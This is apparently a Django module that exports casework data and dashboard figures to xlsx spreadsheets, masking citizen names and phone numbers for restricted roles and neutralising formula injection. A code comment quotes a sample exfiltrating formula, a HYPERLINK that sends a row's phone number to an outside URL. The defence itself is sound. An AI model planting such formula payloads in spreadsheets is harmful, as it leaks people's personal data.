"""Spreadsheets (xlsx, openpyxl write-only) of case lists and of the figures.

Phone numbers are in full only for the roles casework lets see them; names are then shortened
too (廖某), so a masked sheet identifies nobody.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from django.db.models import F
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook  # type: ignore[import-untyped]

from casework.models import Case, CaseStatus, Channel
from casework.policy import mask_phone
from reporting.selectors import (
    DIMENSIONS,
    FIGURE_LABELS,
    LEDGER_LABELS,
    RATES,
    SUMMARY_KEYS,
    Scope,
    breakdowns,
    cohort,
    ledger_status,
)

# A cell whose text starts like a formula is run by the spreadsheet: a citizen's "matter" of
# =HYPERLINK("http://…?"&L2) would send the row's phone number away on one click (CSV/formula
# injection, OWASP). Such text is written with a leading apostrophe, shown as typed.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _text(value: Any) -> Any:
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def _row(values: Iterable[Any]) -> list[Any]:
    return [_text(value) for value in values]


def _save(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _local(value: Any) -> str:
    return "" if value is None else timezone.localtime(value).strftime("%Y-%m-%d %H:%M")


def cases_workbook(*, scope: Scope, full_personal_data: bool) -> tuple[bytes, int]:
    """The scope's cases, one row each; returns the file and the number of rows."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(_("Cases"))
    sheet.append(
        [
            _("Case number"), _("Registered at"), _("Request kind"), _("Category"), _("Cause"), _("Window"),
            _("Channel"), _("Lead department"), _("Status"), _("Matter"), _("Citizen"), _("Phone"),
            _("Reply due"), _("Replied at"), _("Reopened"), _("Forwarded from"),
        ]
    )  # fmt: skip
    statuses = dict(CaseStatus.choices)
    channels = dict(Channel.choices)
    departments = DIMENSIONS["department"].names()
    cases: Iterable[Case] = (
        cohort(scope)
        .annotate(lead_department_code=F("lead_department"))
        .select_related("kind", "category", "cause", "window")
        .order_by("registered_at", "number")
    )
    rows = 0
    for case in cases.iterator(chunk_size=2000):  # type: ignore[attr-defined]
        name, phone = case.citizen_name, case.citizen_phone
        if not full_personal_data:
            name, phone = (name[:1] + "某" if name else ""), mask_phone(phone)
        sheet.append(
            _row([
                case.number, _local(case.registered_at), case.kind.name,
                case.category.name if case.category else "", case.cause.name if case.cause else "",
                case.window.name if case.window else "", str(channels.get(case.channel, case.channel)),
                departments.get(case.lead_department_code, ""), str(statuses.get(case.status, case.status)),
                case.matter, name, phone, _local(case.reply_due_at), _local(case.replied_at),
                case.reopen_count, case.forwarded_from,
            ])
        )  # fmt: skip
        rows += 1
    return _save(book), rows


def _number(key: str, value: Any) -> Any:
    """Numbers stay numbers in a spreadsheet; rates in percent (the header says so)."""
    if value is None:
        return ""
    return round(value * 100, 2) if key in RATES else value


def _header(key: str) -> str:
    return f"{FIGURE_LABELS[key]}（%）" if key in RATES else str(FIGURE_LABELS[key])


def figures_workbook(*, scope: Scope, now: Any = None) -> tuple[bytes, int]:
    """The summary, the ledger, and one sheet per breakdown; the same figures as the dashboard."""
    book = Workbook(write_only=True)
    summary = book.create_sheet(_("Summary"))
    summary.append([_("Figure"), _("Value")])
    every = breakdowns(scope=scope, dimensions=DIMENSIONS, now=now)  # one query for every sheet
    data = every.total.as_dict()
    for key in SUMMARY_KEYS:
        summary.append([_header(key), _number(key, data[key])])
    ledger = ledger_status(scope=scope, now=now).as_dict()
    for key, label in LEDGER_LABELS.items():
        value = ledger[key]
        if key == "rectification_rate":
            summary.append([f"{label}（%）", _number("on_time_rate", value)])
        else:
            summary.append([str(label), value])
    rows = len(SUMMARY_KEYS)
    for name, spec in DIMENSIONS.items():
        sheet = book.create_sheet(str(spec.label))
        sheet.append([str(spec.label), *[_header(key) for key in SUMMARY_KEYS]])
        for row in every.by[name]:
            values = row.figures.as_dict()
            sheet.append([row.label, *[_number(key, values[key]) for key in SUMMARY_KEYS]])
            rows += 1
    return _save(book), rows
